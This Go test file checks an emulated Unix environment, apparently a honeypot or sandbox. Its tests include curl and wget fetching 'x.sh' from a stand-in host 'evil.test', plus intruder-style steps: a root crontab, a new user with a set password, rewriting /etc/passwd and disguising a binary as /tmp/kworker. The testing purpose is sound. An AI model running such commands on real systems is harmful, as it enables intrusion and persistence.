package program_test

import (
	"bytes"
	"io"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/whalefall/whalefall/internal/kernel"
	"github.com/whalefall/whalefall/internal/kernel/kerneltest"
	"github.com/whalefall/whalefall/internal/program"
	"github.com/whalefall/whalefall/internal/vfs"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func registry() *kernel.Registry {
	r := kernel.NewRegistry()
	program.Register(r)
	return r
}

// oracle rows run here and on the machine's own command; output, status and, if
// err is set, error text must be the same.
var oracle = []struct {
	in   string
	argv []string
	err  bool
}{
	{"", []string{"echo", "-e", `a\tb\x41\n`, "c"}, false},
	{"", []string{"printf", `%5d|%-5s|%05.1f|%x\n`, "42", "ab", "3.14159", "255"}, false},
	{"", []string{"printf", `%s\n`, "a", "b"}, false},
	{"", []string{"seq", "-w", "8", "11"}, false},
	{"", []string{"seq", "1", "0.5", "3"}, false},
	{"", []string{"expr", "1", "+", "2", "*", "3"}, false},
	{"", []string{"expr", "abc123", ":", `[a-z]*\([0-9]*\)`}, false},
	{"", []string{"expr", "1", "/", "0"}, true},
	{"", []string{"basename", "/a/b.txt", ".txt"}, false},
	{"", []string{"dirname", "/a/b/"}, false},
	{"b\na\nc\n", []string{"sort"}, false},
	{"10\n9\n2\n1\n", []string{"sort", "-rn"}, false},
	{"a:3\nb:1\nc:2\n", []string{"sort", "-t:", "-k2", "-n"}, false},
	{"a\na\nb\n", []string{"uniq", "-c"}, false},
	{"a:b:c\nd\n", []string{"cut", "-d:", "-f1,3"}, false},
	{"hello\n", []string{"cut", "-c2-3"}, false},
	{"hello\n", []string{"tr", "a-y", "b-z"}, false},
	{"aabbcc\n", []string{"tr", "-s", "a-c"}, false},
	{"a1b2\n", []string{"tr", "-cd", "0-9"}, false},
	{"one two\nthree\n", []string{"wc"}, false},
	{"one two\nthree\n", []string{"wc", "-l"}, false},
	{"1\n2\n3\n4\n", []string{"head", "-2"}, false},
	{"1\n2\n3\n4\n", []string{"tail", "-n", "+3"}, false},
	{"1\n2\n3\n4\n", []string{"head", "-n", "-1"}, false},
	{"abc\n", []string{"rev"}, false},
	{"1\n2\n", []string{"tac"}, false},
	{"a\n\nb\n", []string{"nl"}, false},
	{"hello world, this is whalefall\n", []string{"base64"}, false},
	{"aGVsbG8K\n", []string{"base64", "-d"}, false},
	{"aGVsbG8*K\n", []string{"base64", "-d"}, true},
	{"aGVsbG8", []string{"base64", "-d"}, true},
	{"x", []string{"md5sum"}, false},
	{"x", []string{"sha256sum"}, false},
	{"x", []string{"cksum"}, false},
	{"hello\x00\x01\n", []string{"od", "-c"}, false},
	{"hello\n", []string{"od", "-An", "-tx1"}, false},
	{"foo\nbar\nbaz\n", []string{"grep", "ba"}, false},
	{"foo\nbar\nbaz\n", []string{"grep", "-vn", "ba"}, false},
	{"foo\nbar\nbaz\n", []string{"grep", "-c", "ba"}, false},
	{"foo\nbar\n", []string{"grep", "-E", "^(foo|qux)$"}, false},
	{"a.b\nacb\n", []string{"grep", "-F", "a.b"}, false},
	{"x 1.2.3.4 y 5.6.7.8\n", []string{"grep", "-oE", `([0-9]+\.){3}[0-9]+`}, false},
	{"foo\n", []string{"grep", "nope"}, false},
	{"1\n2\n3\n4\n5\n", []string{"grep", "-A1", "-B1", "3"}, false},
	{"", []string{"grep", "x", "/nonexistent"}, true},
	{"hello\n", []string{"sed", "s/l/L/g"}, false},
	{"hello\n", []string{"sed", "-E", `s/(h)(e)/\2\1/`}, false},
	{"1\n2\n3\n", []string{"sed", "-n", "2p"}, false},
	{"1\n2\n3\n", []string{"sed", "2d"}, false},
	{"1\n2\n3\n", []string{"sed", "$!d"}, false},
	{"1\n2\n3\n", []string{"sed", "1,2s/$/x/"}, false},
	{"a\nb\n", []string{"sed", ":a;N;$!ba;s/\\n/,/g"}, false},
	{"a=1\n", []string{"sed", "s|a=\\(.*\\)|b=\\1&|"}, false},
	{"x\n", []string{"sed", "/x/a\\\nafter"}, false},
	{"x\n", []string{"sed", "i before"}, false},
	{"x\n", []string{"sed", "y/x/z/"}, false},
	{"aa\nbb\n", []string{"sed", "/a/,/b/d"}, false},
	{"abc\n", []string{"sed", `s/.*/\U&/`}, false},
	{"a b c\n", []string{"awk", "{print $2, NF}"}, false},
	{"a:b\n", []string{"awk", "-F:", "{print $2}"}, false},
	{"1\n2\n3\n", []string{"awk", "{s+=$1} END {print s}"}, false},
	{"", []string{"awk", `BEGIN { for (i=0;i<3;i++) printf "%d-%s ", i, "x"; print "" }`}, false},
	{"", []string{"awk", `BEGIN { x["a"]=1; if ("a" in x) print length("hello"), substr("hello",2,3), index("hello","l") }`}, false},
	{"a b\nc d\n", []string{"awk", `/c/ {print NR": "$0}`}, false},
	{"", []string{"awk", `function f(n) { return n<2?1:n*f(n-1) } BEGIN { print f(10) }`}, false},
	{"foo bar\n", []string{"awk", `{gsub(/o/,"0"); print; $1="x"; print}`}, false},
	{"", []string{"awk", `BEGIN { n=split("a,b,c",A,","); print n, A[3]; print 1/3, 1e6, 100000*100000 }`}, false},
	{"", []string{"awk", `BEGIN { while (i<5) { i++; if (i==2) continue; if (i==4) break; print i } }`}, false},
	{"", []string{"awk", `BEGIN { print toupper("x") tolower("Y"), 1==1.0, "a"<"b", 2^10, -3%2 }`}, false},
	{"cpu 1 2\n", []string{"awk", `$1=="cpu" && $2>0 {print ($2+$3)/2}`}, false},
	{"a b\n", []string{"xargs", "-n1", "echo", "x"}, false},
	{"a\nb\n", []string{"xargs", "-I{}", "echo", "<{}>"}, false},
	{"", []string{"test", "1", "-lt", "2"}, false},
	{"", []string{"[", "-z", "x", "]"}, false},
	{"", []string{"ls", "/nonexistent"}, true},
	{"", []string{"cat", "/nonexistent"}, true},
	{"", []string{"rm", "/nonexistent"}, true},
	{"", []string{"cp", "/nonexistent", "/tmp/zz"}, true},
	{"", []string{"mv", "/nonexistent", "/tmp/zz"}, true},
	{"", []string{"mkdir", "/proc/nope/x"}, true},
	{"", []string{"rmdir", "/nonexistent"}, true},
	{"", []string{"ls", "-@"}, true},
	{"", []string{"cat", "--nope"}, true},
	{"", []string{"head", "-n", "x"}, true},
	{"", []string{"chmod", "999", "/tmp"}, true},
	{"", []string{"sleep", "x"}, true},
	{"", []string{"find", "/nonexistent"}, true},
	{"", []string{"touch", "/nonexistent/x"}, true},
	{"", []string{"ln", "-s", "x", "/proc/self/nope/y"}, true},
	{"", []string{"date", "-u", "-d", "@1700000000", "+%F %T %j %a"}, false},
	{"", []string{"date", "-d", "garbage"}, true},
	{"", []string{"kill", "-l", "9"}, false},
	{"a\tb\n", []string{"cat", "-A"}, false},
	{"1\n2\n", []string{"paste", "-sd,"}, false},
	{"abcdefgh\n", []string{"fold", "-w3"}, false},
	{"", []string{"cp"}, true},
	{"", []string{"mkdir"}, true},
	{"", []string{"tr", "a"}, true},
	{"", []string{"env", "-i", "A=1"}, false},
	{"", []string{"env", "nosuchprogram"}, true},
	{"", []string{"timeout", "0.1", "sleep", "5"}, false},
	{"", []string{"nice", "nosuch"}, true},
	{"", []string{"readlink", "-f", "/usr/../etc/./passwd"}, false},
	{"x", []string{"tar", "tzf", "-"}, true},
	{"", []string{"tar", "xf", "/nonexistent.tar"}, true},
	{"x", []string{"gzip", "-d"}, true},
}

func TestOracle(t *testing.T) {
	r := registry()
	w := kerneltest.New(t, r, kerneltest.Options{})
	for _, row := range oracle {
		path, err := exec.LookPath(row.argv[0])
		if err != nil {
			continue
		}
		cmd := exec.Command(path, row.argv[1:]...)
		cmd.Args[0] = row.argv[0]
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "LC_ALL=C", "HOME=/root"}
		cmd.Stdin = strings.NewReader(row.in)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		cmd.Run()
		code := cmd.ProcessState.ExitCode()
		got := w.Run(row.in, row.argv...)
		if got.Out != out.String() || got.Code != code {
			t.Errorf("%q:\n got %d %q\nwant %d %q (stderr %q / %q)", row.argv, got.Code, got.Out, code, out.String(), got.Err, errb.String())
		}
		if row.err && got.Err != errb.String() {
			t.Errorf("%q stderr:\n got %q\nwant %q", row.argv, got.Err, errb.String())
		}
	}
}

// web is a server that answers every request with body.
type web struct {
	r    *strings.Reader
	sent *bytes.Buffer
}

func (c *web) Read(p []byte) (int, error)  { return c.r.Read(p) }
func (c *web) Write(p []byte) (int, error) { return c.sent.Write(p) }
func (c *web) Close() error                { return nil }
func (c *web) CloseWrite() error           { return nil }

func TestDownload(t *testing.T) {
	var sent bytes.Buffer
	nw := &kerneltest.Network{Hosts: map[string]netip.Addr{"evil.test": netip.MustParseAddr("203.0.113.7")},
		Serve: func(a netip.AddrPort, name string) (kernel.Conn, error) {
			if a.Port() == 81 {
				return nil, vfs.ECONNREFUSED
			}
			return &web{strings.NewReader("HTTP/1.1 200 OK\r\nContent-Length: 6\r\nContent-Type: text/plain\r\n\r\npayload"[:0] + "HTTP/1.1 200 OK\r\nContent-Length: 7\r\nContent-Type: text/plain\r\n\r\npayload"), &sent}, nil
		}}
	w := kerneltest.New(t, registry(), kerneltest.Options{Network: nw})
	if r := w.Run("", "curl", "-s", "http://evil.test/x.sh"); r.Out != "payload" || r.Code != 0 {
		t.Errorf("%+v", r)
	}
	if !strings.HasPrefix(sent.String(), "GET /x.sh HTTP/1.1\r\nHost: evil.test\r\nUser-Agent: curl/7.81.0\r\nAccept: */*\r\n\r\n") {
		t.Errorf("%q", sent.String())
	}
	if r := w.Run("", "wget", "-q", "-O", "-", "evil.test/x"); r.Out != "payload" || r.Code != 0 || r.Err != "" {
		t.Errorf("%+v", r)
	}
	if r := w.Run("", "curl", "http://nope.test/"); r.Code != 6 || !strings.Contains(r.Err, "curl: (6) Could not resolve host: nope.test\n") {
		t.Errorf("%+v", r)
	}
	if r := w.Run("", "curl", "-sS", "http://evil.test:81/"); r.Code != 7 {
		t.Errorf("%+v", r)
	}
	if r := w.Run("", "curl", "-so", "/tmp/f", "evil.test/y"); r.Code != 0 {
		t.Errorf("%+v", r)
	}
	if r := w.Run("", "cat", "/tmp/f"); r.Out != "payload" {
		t.Errorf("%+v", r)
	}
	if r := w.Run("", "wget", "http://evil.test/dir/a.sh", "-P", "/tmp"); r.Code != 0 || !strings.Contains(r.Err, "‘/tmp/a.sh’ saved [7/7]") {
		t.Errorf("%+v", r)
	}
}

func TestSteps(t *testing.T) {
	w := kerneltest.New(t, registry(), kerneltest.Options{NS: kernel.NSConfig{Cred: vfs.Root()}})
	for _, s := range []struct {
		in   string
		cmd  string
		want string
		code int
	}{
		{"* * * * * root echo x\n", "crontab -", "", 0},
		{"", "crontab -l", "* * * * * root echo x\n", 0},
		{"", "useradd -m -s /bin/bash bob", "", 0},
		{"", "id bob", "uid=1000(bob) gid=1000(bob) groups=1000(bob)\n", 0},
		{"bob:secret\n", "chpasswd", "", 0},
		{"", "touch /tmp/a", "", 0},
		{"", "chattr +i /tmp/a", "", 0},
		{"", "rm -f /tmp/a", "", 1},
		{"", "chattr -i /tmp/a", "", 0},
		{"", "rm /tmp/a", "", 0},
		{"hi\n", "tee /tmp/b", "hi\n", 0},
		{"", "tar czf /tmp/b.tgz -C /tmp b", "", 0},
		{"", "rm /tmp/b", "", 0},
		{"", "tar xzf /tmp/b.tgz -C /tmp", "", 0},
		{"", "cat /tmp/b", "hi\n", 0},
		{"", "gzip /tmp/b", "", 0},
		{"", "zcat /tmp/b.gz", "hi\n", 0},
		{"", "sed -i s/root/toor/ /etc/passwd", "", 0},
		{"", "head -1 /etc/passwd", "toor:x:0:0:root:/root:/bin/bash\n", 0},
		{"", "find /tmp -name *.gz -exec echo {} ;", "/tmp/b.gz\n", 0},
		{"", "dd if=/dev/zero of=/tmp/z bs=1k count=3", "", 0},
		{"", "stat -c %s /tmp/z", "3072\n", 0},
		{"", "cp /usr/bin/id /tmp/kworker", "", 0},
		{"", "/tmp/kworker -u", "0\n", 0},
		{"", "ln -s /usr/bin/busybox /tmp/ls", "", 0},
		{"", "/tmp/ls -1 /tmp/z", "/tmp/z\n", 0},
		{"", "chmod 600 /tmp/z", "", 0},
		{"", "stat -c %A /tmp/z", "-rw-------\n", 0},
		{"", "pgrep nosuch", "", 1},
		{"", "which curl", "/usr/bin/curl\n", 0},
	} {
		if r := w.Run(s.in, strings.Fields(s.cmd)...); r.Out != s.want || r.Code != s.code {
			t.Errorf("%s: %+v", s.cmd, r)
		}
	}
	if r := w.Run("", "/tmp/ls", "/nonexistent"); r.Err != "ls: /nonexistent: No such file or directory\n" {
		t.Errorf("%+v", r)
	}
}

// Every command survives odd arguments.
func TestNoCrash(t *testing.T) {
	rec := kerneltest.Crashes{T: t}
	w := kerneltest.New(t, registry(), kerneltest.Options{Observer: rec})
	for _, n := range program.Names() {
		switch n {
		case "yes", "sleep", "tail", "ping", "ping6", "top", "nc", "ncat", "netcat", "telnet":
			continue
		}
		for _, a := range [][]string{{}, {"-"}, {"--help"}, {"-Z!"}, {"", ""}, {"/etc/passwd"}, {"/etc/passwd", "/nonexistent"}, {"(", "/", "["}} {
			w.Run("x\ny: z\n", append([]string{n}, a...)...)
		}
	}
}

func FuzzAwk(f *testing.F) {
	f.Add(`BEGIN { print 1 }`)
	f.Add(`/x/ { a[$1]++ } END { for (k in a) print k, a[k] | "cat" }`)
	fuzz(f, func(s string) []string { return []string{"awk", s} })
}

func FuzzSed(f *testing.F) {
	f.Add(`s/\(a\)/\1b/g;2,$d`)
	fuzz(f, func(s string) []string { return []string{"sed", s} })
}

func fuzz(f *testing.F, argv func(string) []string) {
	r := registry()
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 200 {
			return
		}
		w := kerneltest.New(t, r, kerneltest.Options{Observer: kerneltest.Crashes{T: t}})
		task, err := w.NS.Start(kernel.Spawn{Path: "timeout", Argv: append([]string{"timeout", "0.2"}, argv(s)...), Files: map[int]*kernel.File{0: kernel.NullFile(), 1: kernel.WriterFile(io.Discard), 2: kernel.WriterFile(io.Discard)}})
		if err != nil {
			return
		}
		<-task.Done()
	})
}
